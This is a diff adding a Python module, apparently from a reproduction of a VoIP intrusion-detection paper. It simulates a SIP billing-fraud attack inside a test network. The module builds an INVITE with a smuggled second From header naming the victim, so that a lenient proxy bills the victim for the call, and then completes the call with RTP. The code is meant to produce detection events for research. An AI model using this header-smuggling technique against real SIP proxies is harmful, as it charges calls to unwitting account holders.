@@ -1,0 +1,175 @@
+"""Billing fraud (paper §3.2 — the synthetic cross-protocol scenario).
+
+"The attack is launched by the attacker exploiting a vulnerability in
+the SIP proxy.  She sends a carefully crafted SIP message to fool the
+proxy into believing the call is initiated by someone else.  The proxy
+initiates the accounting software with the information about the
+incorrect source for the call.  This allows the attacker to make calls
+without being charged."
+
+Concretely: the crafted INVITE carries a **duplicate From header**.  The
+vulnerable (lenient) proxy routes by the first but its billing module
+attributes the call to the last — the victim.  A strict parser (the
+IDS's Distiller) rejects the message as malformed, producing the first
+of the rule's three events; the unmatched accounting TXN produces the
+second; the attacker's unnegotiated RTP stream toward the callee
+produces the third.
+"""
+
+from __future__ import annotations
+
+import itertools
+
+from repro.attacks.base import AttackerAgent, AttackReport
+from repro.net.addr import Endpoint, IPv4Address
+from repro.rtp.codec import ToneSource
+from repro.rtp.packet import RtpPacket
+from repro.sip.constants import METHOD_ACK, METHOD_INVITE
+from repro.sip.headers import NameAddr, Via
+from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
+from repro.sip.sdp import SdpError, SessionDescription, audio_offer
+from repro.sip.uri import SipUri
+from repro.voip.testbed import Testbed
+
+
+class BillingFraudAttack:
+    """Place a real call to B billed to the victim's account."""
+
+    name = "billing-fraud"
+
+    def __init__(
+        self,
+        testbed: Testbed,
+        victim: str = "alice",
+        callee: str = "bob",
+        media_port: int = 47000,
+        talk_packets: int = 50,
+    ) -> None:
+        if testbed.billing_agent is None:
+            raise RuntimeError("billing fraud needs TestbedConfig(with_billing=True)")
+        self.testbed = testbed
+        self.victim = victim
+        self.callee = callee
+        self.media_port = media_port
+        self.talk_packets = talk_packets
+        self.agent = AttackerAgent(
+            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
+        )
+        self.agent.add_sip_listener(self._on_sip)
+        self.report = AttackReport(name=self.name)
+        self.call_id = f"fraud-call@{testbed.attacker_stack.ip}"
+        self._media_socket = testbed.attacker_stack.bind(media_port, lambda p, s, n: None)
+        self._rtcp_socket = testbed.attacker_stack.bind(media_port + 1, lambda p, s, n: None)
+        self._tone = ToneSource(frequency=660.0)
+        self._seq = itertools.count(20000)
+        self._rtp_ts = itertools.count(0, 160)
+        self._sent = 0
+        self._invite: SipRequest | None = None
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    # -- the crafted INVITE ---------------------------------------------------
+
+    def _fire(self) -> None:
+        testbed = self.testbed
+        domain = testbed.proxy.domain
+        attacker_aor = SipUri.parse(f"sip:mallory@{domain}")
+        victim_aor = SipUri.parse(f"sip:{self.victim}@{domain}")
+        callee_aor = SipUri.parse(f"sip:{self.callee}@{domain}")
+        request = SipRequest(method=METHOD_INVITE, uri=callee_aor)
+        via = Via(
+            transport="UDP",
+            host=str(testbed.attacker_stack.ip),
+            port=5060,
+            params=(("branch", self.agent.new_branch()),),
+        )
+        request.headers.add("Via", str(via))
+        request.headers.add("Max-Forwards", "70")
+        # First From: routes/negotiates as the attacker (responses reach us).
+        request.headers.add("From", str(NameAddr(uri=attacker_aor).with_tag("fraud")))
+        request.headers.add("To", str(NameAddr(uri=callee_aor)))
+        request.headers.add("Call-ID", self.call_id)
+        request.headers.add("CSeq", f"1 {METHOD_INVITE}")
+        request.headers.add(
+            "Contact", f"<sip:mallory@{testbed.attacker_stack.ip}:5060>"
+        )
+        sdp = audio_offer(
+            address=testbed.attacker_stack.ip,
+            port=self.media_port,
+            session_id="41",
+            user="mallory",
+        )
+        request._set_body(sdp.encode(), "application/sdp")
+        # THE EXPLOIT: smuggle a second From header naming the victim.
+        # The vulnerable proxy's billing reads the last From; strict
+        # parsers reject the message outright.
+        request.headers.add("From", str(NameAddr(uri=victim_aor).with_tag("victim")))
+        self._invite = request
+        self.agent.send_sip(request, testbed.proxy_endpoint)
+        self.report.launched_at = testbed.loop.now()
+        self.report.details.update(
+            {"billed_to": f"{self.victim}@{domain}", "callee": f"{self.callee}@{domain}"}
+        )
+
+    # -- completing the call ------------------------------------------------------
+
+    def _on_sip(self, payload: bytes, src: Endpoint, now: float) -> None:
+        try:
+            message = parse_message(payload)
+        except SipParseError:
+            return
+        if not isinstance(message, SipResponse) or message.status != 200:
+            return
+        try:
+            if message.cseq.method != METHOD_INVITE or message.call_id != self.call_id:
+                return
+        except Exception:
+            return
+        # ACK straight to the callee's contact, then start streaming.
+        contact = message.contact
+        if contact is None or self._invite is None:
+            return
+        ack = SipRequest(method=METHOD_ACK, uri=contact.uri)
+        via = Via(
+            transport="UDP",
+            host=str(self.testbed.attacker_stack.ip),
+            port=5060,
+            params=(("branch", self.agent.new_branch()),),
+        )
+        ack.headers.add("Via", str(via))
+        ack.headers.add("Max-Forwards", "70")
+        ack.headers.add("From", self._invite.headers.get("From") or "")
+        ack.headers.add("To", message.headers.get("To") or "")
+        ack.headers.add("Call-ID", self.call_id)
+        ack.headers.add("CSeq", "1 ACK")
+        ack.headers.set("Content-Length", "0")
+        callee_endpoint = Endpoint(IPv4Address.parse(contact.uri.host), contact.uri.port or 5060)
+        self.agent.send_sip(ack, callee_endpoint)
+        try:
+            remote_media = SessionDescription.parse(message.body).audio_endpoint()
+        except (SdpError, ValueError):
+            return
+        self.report.details["remote_media"] = str(remote_media)
+        self._stream(remote_media)
+
+    def _stream(self, remote: Endpoint) -> None:
+        if self._sent >= self.talk_packets:
+            self.report.completed = True
+            self.report.details["rtp_sent"] = self._sent
+            return
+        packet = RtpPacket(
+            payload_type=0,
+            sequence=next(self._seq) & 0xFFFF,
+            timestamp=next(self._rtp_ts) & 0xFFFFFFFF,
+            ssrc=0xDEADBEEF,
+            payload=self._tone.next_frame(),
+        )
+        self._media_socket.send_to(remote, packet.encode())
+        self._sent += 1
+        self.testbed.loop.call_later(0.020, lambda: self._stream(remote))
